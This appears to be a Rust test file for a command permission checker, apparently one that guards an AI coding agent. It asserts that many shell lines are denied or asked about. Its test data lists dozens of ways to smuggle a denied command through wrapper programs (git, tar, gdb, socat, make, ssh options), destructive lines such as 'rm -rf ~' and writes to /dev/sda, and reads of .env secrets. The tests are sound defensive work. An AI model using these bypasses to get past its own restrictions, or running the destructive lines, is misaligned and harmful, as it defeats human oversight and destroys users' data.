        "rsync -e 'ssh -p 22' h:b d/",
        "rsync rsync://h.example/m/b ./",
        "rsync a b d",
        "rsync --remove-source-files b h:x",
        "scp h:a b",
        "scp -P 22 me@h:x/b d",
        "scp h:b .",
        "sftp h:x/b",
        "sftp -P 22 h:x d/b",
        "curl --output-dir d -o b https://h.example/",
        "curl -ob --output-dir d https://h.example/",
        "curl --create-dirs --output-di d --out b https://h.example/",
        "curl -O https://h.example/b?token=1",
        "curl -O 'https://h.example/x/b?next=/c#d'",
        "curl -O https://h.example/b/",
        "curl -O --url https://h.example/b",
        "curl --remote-name-all --output-dir d --url=h.example/b",
        "curl -w '%{http_code}%output{b}' https://h.example/",
        "curl -w '%output{>>d/b}x' https://h.example/",
        "curl --alt-svc b https://h.example/",
        "wget https://h.example/%62",
        "wget -Pd https://h.example/x/b#top",
        "wget -nv -Ob https://h.example/x",
    ] {
        for sandbox in Sandbox::ALL {
            let (got, why) = bypass(sandbox, call);
            assert!(got == Decision::Deny && why.contains("writes"), "{call}: {why}");
        }
    }
    for call in [
        "rsync a c",
        "rsync b h:x",
        "rsync h:x/b",
        "scp b h:x",
        "sftp h",
        "sftp -b- h:x/b d/c",
        "curl -O https://h.example/c?b",
        "curl -O https://h.example/x?y=/b",
        "curl --output-dir d https://h.example/b",
        "wget https://h.example/x?y=b",
        "wget -O c https://h.example/b",
    ] {
        let (got, why) = bypass(Sandbox::None, call);
        assert_eq!(got, Decision::Allow, "{call}: {why}");
    }
    check(HELD, "", &["rsync -a src/ target/", "rsync -a --delete src/*.rs target"], |got| {
        got == Decision::Allow
    });
}

#[test]
fn what_other_programs_may_run_meets_deny_rules_and_the_floor() {
    let decision = |sandbox, mode, given: &str, call: &str| {
        let got = judge_in(sandbox, mode, &rules(given), &[], &format!("$ {call}"));
        (got.decision, got.reason)
    };
    let given = "deny Shell(rm *); allow Shell(*)";
    for call in [
        "ionice rm x",
        "ionice -c 3 rm x",
        "flock . rm x",
        "flock -c 'rm x' .",
        "flock . -c 'cd a && rm x'",
        "setarch -R rm x",
        "chrt 1 rm x",
        "toybox rm x",
        "rbash -c 'rm -r x'",
        "strace -f ionice /bin/rm x",
        "unshare -r sh -c 'rm x'",
        "unshare sh -c 'ionice rm x'",
        "timeout 5 ionice rm x",
        "sh -c 'flock . rm x'",
        "/lib64/ld-linux-x86-64.so.2 rm x",
        "watch 'rm x'",
        "su -c 'rm x' me",
        "frobnicate rm x",
        "frobnicate --go sudo rm x",
        "npx rm x",
        "npx --package a -y rm x",
        "npx -yc 'rm x'",
        "npx --call='rm x'",
        "npm --prefix a exec -- rm x",
        "npm x -c 'cd a && rm x'",
        "pnpm dlx rm x",
        "yarn exec -- rm x",
        "bun x rm x",
        "poetry -C a run rm x",
        "pipenv run rm x",
        "uv run --with a --with b rm x",
        "uv tool run env A=1 rm x",
        "uvx --from a rm x",
        "conda run -n base rm x",
        "bundle exec /bin/rm x",
        "rustup run stable rm x",
        "stack exec -- rm x",
        "mise exec -- rm x",
        "nix-shell -p a --run 'rm x'",
        "cmake -E chdir a rm x",
        "cmake -E env A=1 rm x",
        "just --command rm x",
        "cargo watch -s 'rm x'",
        "git bisect run rm x",
        "git bisect run sh -c 'make; rm x'",
        "git -C a rebase -ix 'rm x' main",
        "git rebase --exec='cd a && rm x'",
        "git submodule foreach rm x",
        "git submodule foreach --recursive 'git status; rm x'",
        "git -c alias.x='!rm y' x",
        "git -c core.pager='rm x' log",
        "git clone -u 'rm x' a b",
        "git clone -qu'cd a; rm x' a b",
        "GIT_EXTERNAL_DIFF='rm x' git diff",
        "git clone -c core.sshCommand='rm x' a b",
        "git filter-branch --tree-filter 'rm x' HEAD",
        "git difftool -yx 'rm x'",
        "GIT_SSH_COMMAND='rm x' git fetch",
        "PAGER='rm x' man ls",
        "tar -I 'rm x' -xf a.tar",
        "tar -xvf a.tar --to-com='rm x'",
        "tar --use-compress-program 'rm x' -xf a.tar",
        "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='rm x'",
        "rsync -ave 'rm x' a b",
        "rsync --rsh='rm x' a b",
        "ssh -o ProxyCommand='rm x' host",
        "ssh -p 22 me@localhost 'cd a; rm x'",
        "ssh 127.0.0.1 rm x",
        "tmux new-session -d -s a 'rm x'",
        "screen -dmS a rm x",
        "man --pager='rm x' ls",
        "vim -c ':!rm x' a",
        "fd -e o -X rm x",
        "rg --pre 'rm x' a",
        "su --command='rm x' me",
        "script --command='rm x'",
        "fd --exec=rm",
        "fd -xrm",
        "fd -Hx rm",
        "fd -e o -HIX rm -f",
        "fd -t f --exec-batch=/bin/rm",
        "parallel -a LIST rm",
        "parallel rm ::: x",
        "socat - EXEC:'rm x'",
        "socat TCP-LISTEN:80,fork 'SYSTEM:rm x; ls',pty",
        "socat - 'tcp:a:1!!exec:rm x,nofork'",
        "zip -T --unzip-command 'rm x' a.zip b",
        "zip -T -TT 'rm x' a.zip b",
        "zip -rTT'rm x' a.zip b",
        "gdb -ex 'shell rm x'",
        "gdb -batch -ex '!rm x' a",
        "gdb -eval-command='shell cd a; rm x'",
        "gdb --eval-command 'pipe info regs | rm x'",
        "lldb -o 'platform shell rm x'",
        "make SHELL='rm x'",
        "make -j4 SHELL=/bin/rm all",
        "make --eval 'x:;rm y' x",
        "vim -c 'silent !rm x' a",
        "vim -es +'exe system(\"rm x\")' a",
        "xargs --replace rm {}",
        "xargs -i rm {}",
        "yarn workspace a exec rm x",
        "yarn workspaces foreach -A exec rm x",
        "tmux send-keys -t a 'rm x' Enter",
        "split --filter='rm x' a",
        "sqlite3 a.db '.shell rm x'",
        "psql -c '\\! rm x'",
        "mysql --execute='system rm x' a",
        "bash <<< 'rm x'",
        "sh -s <<<'cd a; rm x'",
        "echo rm x | sh",
        "printf 'rm x\\n' | /bin/bash -s",
        "echo 'cd a && rm x' | bash",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm x' git x",
        "LESSCLOSE='rm x' less a",
    ] {
        for sandbox in Sandbox::ALL {
            let (got, why) = decision(sandbox, Mode::Bypass, given, call);
            assert_eq!(got, Decision::Deny, "{call}: {why}");
        }
        // Nobody knows whether an unknown program runs it.
        let want = if call.starts_with("frob") { Decision::Ask } else { Decision::Deny };
        assert_eq!(decision(Sandbox::Bubblewrap, Mode::Execute, given, call).0, want, "{call}");
    }
    for call in [
        "ionice rm -rf ~",
        "flock /tmp/l rm -rf ~",
        "flock /tmp/l -c 'rm -rf ~'",
        "rbash -c 'rm -rf ~'",
        "ionice shutdown now",
        "chrt 1 find . -delete",
        "taskset 1 env A=1 dd if=x of=/dev/sda",
        "frobnicate rm -rf ~",
        "npx rm -rf ~",
        "uv run rm -rf .",
        "git submodule foreach 'rm -rf ~'",
        "ssh localhost rm -rf /",
        "tar -I 'rm -rf ~' -xf a.tar",
        "fd -HIx rm -rf",
        "fd --exec=rm",
        "socat - EXEC:'rm -rf ~'",
        "gdb -ex 'shell rm -rf ~'",
        "make SHELL='rm -rf ~'",
    ] {
        for sandbox in Sandbox::ALL {
            let (got, why) = decision(sandbox, Mode::Bypass, "", call);
            assert!(got == Decision::Deny && why.contains("floor"), "{call}: {why}");
        }
    }
    check(ALL, "", &["ionice cp x .git/hooks/pre-commit"], |got| got != Decision::Allow);
    // As with `xargs`: nobody has seen the names.
    let calls = [
        "cat list | parallel rm",
        "parallel -a list rm",
        "ls | parallel --arg-file list rm",
        "parallel rm :::: list",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    let calls =
        ["ls *.o | parallel rm", "parallel rm ::: a b", "parallel gzip {} ::: a b", "parallel -a list gzip"];
    check(HELD, "", &calls, |got| got == Decision::Allow);
    // What they read is read.
    for call in
        ["flock . -c 'cat .env'", "ssh localhost 'cat .env'", "watch 'grep x .env'", "npx -c 'cat .env'"]
    {
        for sandbox in Sandbox::ALL {
            let (got, why) = decision(sandbox, Mode::Bypass, "deny Read(.env)", call);
            assert_eq!(got, Decision::Deny, "{call}: {why}");
        }
    }
    check(&[Sandbox::None], "", &["arch rm x"], |got| got == Decision::Ask);
    // As much is not held against rules, and may be what one is about.
    let line = vec![format!("ionice {}{}", "rm ".repeat(30), "a ".repeat(400)); 2].join("; ");
    let got = decision(Sandbox::None, Mode::Bypass, "deny Write(secret)", &line);
    assert!(got.0 == Decision::Deny && got.1.contains("more places"), "{}", got.1);
    let line = format!("find . {} -exec rm -rf {{}} +", "-exec echo {} + ".repeat(40));
    let got = decision(Sandbox::None, Mode::Bypass, "", &line);
    assert!(got.0 == Decision::Deny && got.1.contains("floor"), "{}", got.1);
    // So many words are not looked at, and may hold anything.
    for (many, line) in [
        ("ionice", format!("ionice {}rm x", "a ".repeat(600))),
        ("frobnicate", format!("frobnicate {}rm x", "a ".repeat(600))),
        ("npx", format!("npx {}rm x", "-a b ".repeat(600))),
        ("git", format!("git rebase {}-x 'rm x'", "-x a ".repeat(600))),
    ] {
        assert_eq!(decision(Sandbox::None, Mode::Bypass, given, &line).0, Decision::Deny, "{many}");
        assert_eq!(decision(Sandbox::Bubblewrap, Mode::Execute, given, &line).0, Decision::Ask, "{many}");
    }
    // What they run otherwise is as it was.
    let given = "deny Shell(rm *); deny Shell(git push *)";
    for call in [
        "virsh shutdown vm",
        "frobnicate mv ~ x",
        "svn mv . x",
        "ionice -c 3 make -j4",
        "strace -o out -f ./hello rmx",
        "perf record -g ./target/release/x",
        "cargo rm serde",
        "npm rm left-pad",
        "npm run rm",
        "pnpm rm left-pad",
        "bun rm x",
        "uv run pytest -k rm",
        "npx eslint --fix rm",
        "poetry run python tool.py rm",
        "git commit -m 'rm x'",
        "git commit -m 'git push'",
        "git worktree add rm",
        "git rebase main",
        "tar -cf a.tar rm x",
        "cmake -E remove x",
        "cargo run -- rm x",
        "make -j4 SHELL=/bin/bash all",
        "make CFLAGS='-O2 -g' install",
        "gdb -batch -ex run -ex bt ./a",
        "socat - UNIX-CONNECT:/tmp/x",
        "zip -rT a.zip rm",
        "fd -tf rm",
        "fd -e rs -x wc -l",
        "yarn workspace a run rm",
        "psql -c 'select 1' rm",
        "vim -c 'set nu' rm",
    ] {
        let (got, why) = decision(Sandbox::Bubblewrap, Mode::Execute, given, call);
        assert_eq!(got, Decision::Allow, "{call}: {why}");
    }
}

/// A rule looks at every word, and where there are too many to look at, nothing passes.
#[test]
fn no_word_is_too_far_back_to_be_seen() {
    let given = "deny Read(.env); deny Web(evil.example); allow Shell(*); allow Shell(python3 *); allow Shell(frobnicate *); \
                 allow Shell(git *); allow Web(*)";
    let decision =
        |sandbox, mode, line: &str| judge_in(sandbox, mode, &rules(given), &[], &format!("$ {line}"));
    for program in ["python3 x.py", "frobnicate", "git add", "unknown/script", "curl -d x"] {
        for count in [250, 257, 600, 3_000] {
            let line = format!("{program} {}.env", "a ".repeat(count));
            let got = decision(Sandbox::None, Mode::Bypass, &line);
            assert_eq!(got.decision, Decision::Deny, "{program} {count}: {}", got.reason);
        }
    }
    for line in [
        format!("python3 x.py {}f=.env", "a ".repeat(300)),
        format!("python3 x.py {}@.env", "a ".repeat(300)),
        format!("python3 x.py {}https://evil.example/x", "a ".repeat(300)),
        format!("frobnicate {}.env", "a ".repeat(60_000)),
    ] {
        let got = decision(Sandbox::None, Mode::Bypass, &line);
        assert_eq!(got.decision, Decision::Deny, "{}", got.reason);
        assert_ne!(decision(Sandbox::Bubblewrap, Mode::Execute, &line).decision, Decision::Allow);
    }
    // An option that is given once, given so often, is not looked behind each time.
    let got = decision(Sandbox::Bubblewrap, Mode::Execute, &format!("fd x {}", "-x ls ".repeat(20)));
    assert_eq!(got.decision, Decision::Ask, "{}", got.reason);
    let many = format!("python3 x.py {}", "src/a.rs ".repeat(1_000));
    let got = decision(Sandbox::Bubblewrap, Mode::Execute, &many);
    assert_eq!(got.decision, Decision::Allow, "{}", got.reason);
}

/// What everybody is asked for is so by a search or a copy that comes across it, where no sandbox holds it and the file is
/// there.
#[test]
fn a_search_through_a_folder_with_settings_asks_for_them() {
    let given = "allow Shell(grep *); allow Shell(cp *); allow Shell(diff *); allow Shell(tar *); allow Shell(zip *); \
                 allow Shell(ag *); allow Shell(ack *); allow Shell(rsync *); allow Write(**); allow Shell(cd *)";
    let decision = |sandbox, call: &str| {
        let got = judge_in(sandbox, Mode::Execute, &rules(given), &[], &format!("$ {call}"));
        (got.decision, got.reason)
    };
    let calls = [
        "grep -r SECRET kept",
        "grep -rn SECRET src kept/",
        "cd kept && grep -r SECRET",
        "cd kept && grep -r SECRET .",
        "cd kept && grep -r SECRET *",
        "grep -r SECRET kept/*",
        "grep -r --include='*' SECRET kept",
        "grep -r --include='*.rs' --include='*.local' SECRET kept",
        "grep -r --include=.env SECRET kept",
        "grep -r --include='*.prod' SECRET kept",
        "grep -r --include='*.qa' --include='*.rs' SECRET kept",
        "grep -r --include='*.envrc' SECRET kept",
        "grep -r --include '*.env2' SECRET kept",
        "grep -r --exclude='*.rs' SECRET kept",
        "grep --recursive SECRET kept",
        "cp -r kept copy",
        "cp -a kept/. copy",
        "diff -r kept src",
        "tar czf x.tgz kept",
        "tar c kept/src",
        "cd kept && tar c .",
        "zip -r x.zip kept",
        "rsync -a kept/ copy/",
        "ag --hidden SECRET kept",
        "cd kept && ag -u SECRET",
        "cd kept && ack SECRET",
    ];
    for call in calls {
        let (got, why) = decision(Sandbox::None, call);
        assert!(got == Decision::Ask && why.contains("Read(**/.env*)"), "{call}: {why}");
    }
    let calls = [
        "grep -r SECRET src",
        "grep -rn SECRET .",
        "grep -r SECRET sample",
        "grep -r --include='*.rs' SECRET kept",
        "grep -r --exclude='.*' SECRET kept",
        "grep -rn SECRET kept --include '*.rs'",
        "cd kept && grep -rn SECRET *.rs README*",
        "rg SECRET kept",
        "cd kept && rg SECRET",
        "cp -r src copy",
        "cp kept/src/a.rs copy",
        "diff -r src other",
        "tar czf x.tgz src README",
        "zip -r x.zip src",
        "ag SECRET kept",
        "cat kept/src/a.rs",
        "ls -R kept",
        "git grep SECRET kept",
        // A rule answers where there is too much to tell.
        "grep -r SECRET huge",
    ];
    for call in calls {
        let (got, why) = decision(Sandbox::None, call);
        assert_eq!(got, Decision::Allow, "{call}: {why}");
    }
    let unseen = judge_in(Sandbox::None, Mode::Execute, &rules(""), &[], "$ grep -r SECRET huge");
    assert_eq!(unseen.decision, Decision::Ask, "{}", unseen.reason);
    // A sandbox is the wall there, and a file that is named asks as it did.
    for call in ["grep -r SECRET kept", "cd kept && grep -r SECRET", "tar c kept", "cp -r kept copy"] {
        for sandbox in [Sandbox::Bubblewrap, Sandbox::Landlock] {
            for mode in [Mode::Execute, Mode::AcceptEdits] {
                let got = judge_in(sandbox, mode, &rules(given), &[], &format!("$ {call}"));
                assert_eq!(got.decision, Decision::Allow, "{call}: {}", got.reason);
            }
        }
    }
    check(ALL, "", &["cat kept/.env", "grep SECRET kept/.env"], |got| got == Decision::Ask);
}

/// A dot in its name makes no file of a folder, and what goes into folders goes into those that it is given.
#[test]
fn a_folder_that_is_there_is_held_against_rules_for_what_is_in_it() {
    let given = "deny Read(conf.d/k.pem); allow Shell(*); allow Shell(tar *); allow Shell(zip *); allow Shell(rsync *); \
                 allow Shell(diff *)";
    let calls = [
        "diff conf.d other",
        "diff other conf.d",
        "diff -u ./conf.d other",
        "diff src/../conf.d other",
        "tar c conf.d",
        "tar czf x.tgz -C conf.d .",
        "tar c .",
        "zip -r x conf.d",
        "zip -r x *",
        "rsync -a conf.d/ copy",
    ];
    for call in calls {
        let bypass = judge_in(Sandbox::None, Mode::Bypass, &rules(given), &[], &format!("$ {call}"));
        assert_eq!(bypass.decision, Decision::Deny, "{call}: {}", bypass.reason);
        let got = judge_in(Sandbox::None, Mode::Execute, &rules(given), &[], &format!("$ {call}"));
        assert_eq!(got.decision, Decision::Ask, "{call}: {}", got.reason);
    }
    for call in ["diff src/a.rs other/b.rs", "tar c src", "zip x README", "tar tf a.tgz", "diff a.txt b.txt"]
    {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(given), &[], &format!("$ {call}"));
        assert_eq!(got.decision, Decision::Allow, "{call}: {}", got.reason);
    }
}
